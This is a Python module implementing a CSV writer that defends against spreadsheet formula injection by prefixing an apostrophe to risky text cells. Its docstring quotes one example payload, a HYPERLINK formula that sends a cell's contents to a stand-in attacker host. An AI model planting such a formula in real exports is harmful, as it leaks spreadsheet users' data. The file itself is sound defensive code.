"""The one CSV writer for files a person downloads and may open in a spreadsheet.

A text cell that starts with =, +, -, @, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets ("CSV injection"): a description
such as =HYPERLINK("https://evil.example?"&A1, "Click") would run in the victim's
spreadsheet. Every text cell that starts so gets a leading apostrophe, which
spreadsheets show as text and hide (OWASP's advice); the statement import strips it
again, so an export imports back unchanged. Numbers, dates and empty cells are
written as they are: only text a person typed can carry a formula.
"""

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


def spreadsheet_safe(value: object) -> object:
    """The value a CSV cell may hold: text that would start a formula, kept as text."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return f"'{value}"
    return value


class SpreadsheetSafeWriter:
    """csv.writer whose text cells can never start a formula. `writerow` returns what
    the file's write() returned, like csv.writer's, so a file-like object that hands
    back the line lets a response stream the file row by row."""

    def __init__(self, file: _Writable) -> None:
        self._writer = csv.writer(file)

    def writerow(self, cells: Iterable[object]) -> Any:
        return self._writer.writerow([spreadsheet_safe(cell) for cell in cells])
